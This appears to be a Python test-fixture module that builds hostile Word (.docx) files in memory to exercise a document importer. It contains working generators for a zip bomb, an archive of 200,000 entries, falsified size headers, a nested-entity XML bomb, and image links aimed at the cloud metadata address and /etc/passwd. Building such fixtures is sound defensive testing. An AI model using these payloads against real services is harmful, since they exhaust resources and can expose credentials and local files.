"""Documents that harm a careless import, made in memory in under a second each; nothing of this is kept on disk.

Zip files are written here by hand, because `zipfile` neither takes ready-made compressed data nor tells lies.
"""

from __future__ import annotations

import random
import struct
import zlib
from collections.abc import Iterable
from dataclasses import dataclass

WORDS = (
    "เทศบาล ประชาชน โครงการ งบประมาณ ตรวจรับ ชุมชน เอกสาร ระเบียบ แผนพัฒนา ประชุม กองช่าง กองคลัง สวัสดิการ สาธารณสุข "
    "คลองระบายน้ำ ผู้สูงอายุ ใบเสร็จ ทะเบียน ความรู้ บทเรียน เจ้าหน้าที่ คณะกรรมการ อนุมัติ ดำเนินการ ขอความร่วมมือ"
).split()
PAGES, LETTERS = 2_000, 2_000
MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
OPEN = f'<w:document xmlns:w="{MAIN}" xmlns:r="{RELATIONS}"><w:body>'
CLOSE = "</w:body></w:document>"
PLAIN = f"{HEAD}{OPEN}<w:p><w:r><w:t>เอกสารธรรมดา</w:t></w:r></w:p>{CLOSE}"


@dataclass(frozen=True)
class Entry:
    """A file of the archive: its deflated data, the size it is said to have, and its checksum."""

    name: str
    data: bytes = b""
    size: int = 0
    crc: int = 0


def deflated(name: str, text: str) -> Entry:
    data = text.encode()
    press = zlib.compressobj(6, zlib.DEFLATED, -15)
    return Entry(name, press.compress(data) + press.flush(), len(data), zlib.crc32(data))


def archive(entries: Iterable[Entry]) -> bytes:
    """A zip file of the entries; beyond 65,535 of them with a ZIP64 directory."""
    files, directory, count, offset = [], [], 0, 0
    for entry in entries:
        name, method = entry.name.encode(), 8 if entry.data else 0
        about = struct.pack(
            "<HHHHHIIIHH",
            20, 0x800, method, 0, 0x4621, entry.crc, len(entry.data), entry.size, len(name), 0,
        )  # fmt: skip
        files += (b"PK\x03\x04", about, name, entry.data)
        directory.append(b"PK\x01\x02\x14\x00" + about + struct.pack("<HHHII", 0, 0, 0, 0, offset) + name)
        offset += 30 + len(name) + len(entry.data)
        count += 1
    index = b"".join(directory)
    end = b""
    if count > 0xFFFF:
        end = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, len(index), offset)
        end += struct.pack("<4sIQI", b"PK\x06\x07", 0, offset + len(index), 1)
    few = min(count, 0xFFFF)
    end += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, few, few, len(index), offset, 0)
    return b"".join([*files, index, end])


def package(relations: str = "") -> list[Entry]:
    """What a Word document needs besides word/document.xml: types, relations, heading style."""
    office = "application/vnd.openxmlformats-officedocument.wordprocessingml"
    types = (
        f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{office}.document.main+xml"/>'
        f'<Override PartName="/word/styles.xml" ContentType="{office}.styles+xml"/></Types>'
    )
    opening = f'{HEAD}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    main = f'<Relationship Id="rId1" Type="{RELATIONS}/officeDocument" Target="word/document.xml"/>'
    styles = f'<Relationship Id="rId1" Type="{RELATIONS}/styles" Target="styles.xml"/>'
    style = (
        f'{HEAD}<w:styles xmlns:w="{MAIN}"><w:style w:type="paragraph" w:default="1" w:styleId="Normal">'
        '<w:name w:val="Normal"/></w:style><w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/>'
        '<w:basedOn w:val="Normal"/><w:pPr><w:pageBreakBefore/><w:outlineLvl w:val="0"/></w:pPr></w:style></w:styles>'
    )
    return [
        deflated("[Content_Types].xml", types),
        deflated("_rels/.rels", f"{opening}{main}</Relationships>"),
        deflated("word/_rels/document.xml.rels", f"{opening}{styles}{relations}</Relationships>"),
        deflated("word/styles.xml", style),
    ]


def two_thousand_pages() -> bytes:
    """A valid document of 2,000 pages, each a heading and four paragraphs of 500 Thai letters; not a repeated page."""
    chance = random.Random(2558)
    # Whole sentences are drawn, not single words: twenty times quicker and still no page like another.
    sentences = ["".join(chance.choices(WORDS, k=10)) + " " for _ in range(2_000)]
    pages = [OPEN]
    share = LETTERS // 4
    for number in range(1, PAGES + 1):
        pages.append(f'<w:p><w:pPr><w:pStyle w:val="Heading1"/></w:pPr><w:r><w:t>หน้าที่ {number}</w:t></w:r></w:p>')
        text = "".join(chance.choices(sentences, k=LETTERS // 40))[:LETTERS]
        pages += [
            f"<w:p><w:r><w:t>{text[at : at + share].strip()}</w:t></w:r></w:p>" for at in range(0, LETTERS, share)
        ]
    return archive([*package(), deflated("word/document.xml", f"{HEAD}{''.join(pages)}{CLOSE}")])


def swollen(name: str, megabytes: int) -> Entry:
    """A well-formed document.xml of so many megabytes: one compressed paragraph of a megabyte, many times over."""
    frame = "<w:p><w:r><w:t>{}</w:t></w:r></w:p>"
    block = frame.format("A" * (2**20 - len(frame) + 2)).encode()
    press = zlib.compressobj(9, zlib.DEFLATED, -15)
    head, tail = (HEAD + OPEN).encode(), CLOSE.encode()
    start = press.compress(head) + press.flush(zlib.Z_FULL_FLUSH)
    middle = press.compress(block) + press.flush(zlib.Z_FULL_FLUSH)
    end = press.compress(tail) + press.flush()
    crc = zlib.crc32(head)
    for _ in range(megabytes):
        crc = zlib.crc32(block, crc)
    size = len(head) + megabytes * len(block) + len(tail)
    return Entry(name, start + middle * megabytes + end, size, zlib.crc32(tail, crc))


def zip_bomb() -> bytes:
    """About one megabyte whose word/document.xml inflates to one gigabyte, and says so."""
    return archive([*package(), swollen("word/document.xml", 1_024)])


def many_entries() -> bytes:
    """A valid document beside 200,000 empty files."""
    empty = (Entry(f"word/media/{number}.png") for number in range(200_000))
    return archive([*package(), deflated("word/document.xml", PLAIN), *empty])


def lying_sizes() -> bytes:
    """Both headers say word/document.xml has 4,000 bytes; its stream inflates to 256 megabytes."""
    true = swollen("word/document.xml", 256)
    return archive([*package(), Entry(true.name, true.data, 4_000, true.crc)])


def entity_bomb() -> bytes:
    """Nested entities in a DOCTYPE of document.xml: ten levels of ten, ten thousand million words when expanded."""
    levels = "".join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 11))
    doctype = f'<!DOCTYPE w:document [<!ENTITY l0 "ฮา">{levels}]>\n'
    return archive(
        [
            *package(),
            deflated("word/document.xml", f"{HEAD}{doctype}{OPEN}<w:p><w:r><w:t>&l10;</w:t></w:r></w:p>{CLOSE}"),
        ]
    )


def external_picture() -> bytes:
    """Two pictures that are not inside: an address of the inner network (linked), a local file (embedded)."""
    drawing = "http://schemas.openxmlformats.org/drawingml/2006"
    targets = {"rId8": "http://169.254.169.254/x.png", "rId9": "file:///etc/passwd"}
    relations = "".join(
        f'<Relationship Id="{key}" Type="{RELATIONS}/image" Target="{target}" TargetMode="External"/>'
        for key, target in targets.items()
    )

    def picture(number: int, reference: str) -> str:
        return (
            f'<w:p><w:r><w:drawing><wp:inline xmlns:wp="{drawing}/wordprocessingDrawing">'
            '<wp:extent cx="990000" cy="990000"/>'
            f'<wp:docPr id="{number}" name="Picture {number}"/><a:graphic xmlns:a="{drawing}/main">'
            f'<a:graphicData uri="{drawing}/picture"><pic:pic xmlns:pic="{drawing}/picture"><pic:nvPicPr>'
            f'<pic:cNvPr id="{number}" name="x.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {reference}/>'
            '<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/>'
            '<a:ext cx="990000" cy="990000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
            "</pic:pic>"
            "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
        )

    body = picture(1, 'r:link="rId8"') + picture(2, 'r:embed="rId9"') + "<w:p><w:r><w:t>ข้อความใต้ภาพ</w:t></w:r></w:p>"
    return archive([*package(relations), deflated("word/document.xml", f"{HEAD}{OPEN}{body}{CLOSE}")])
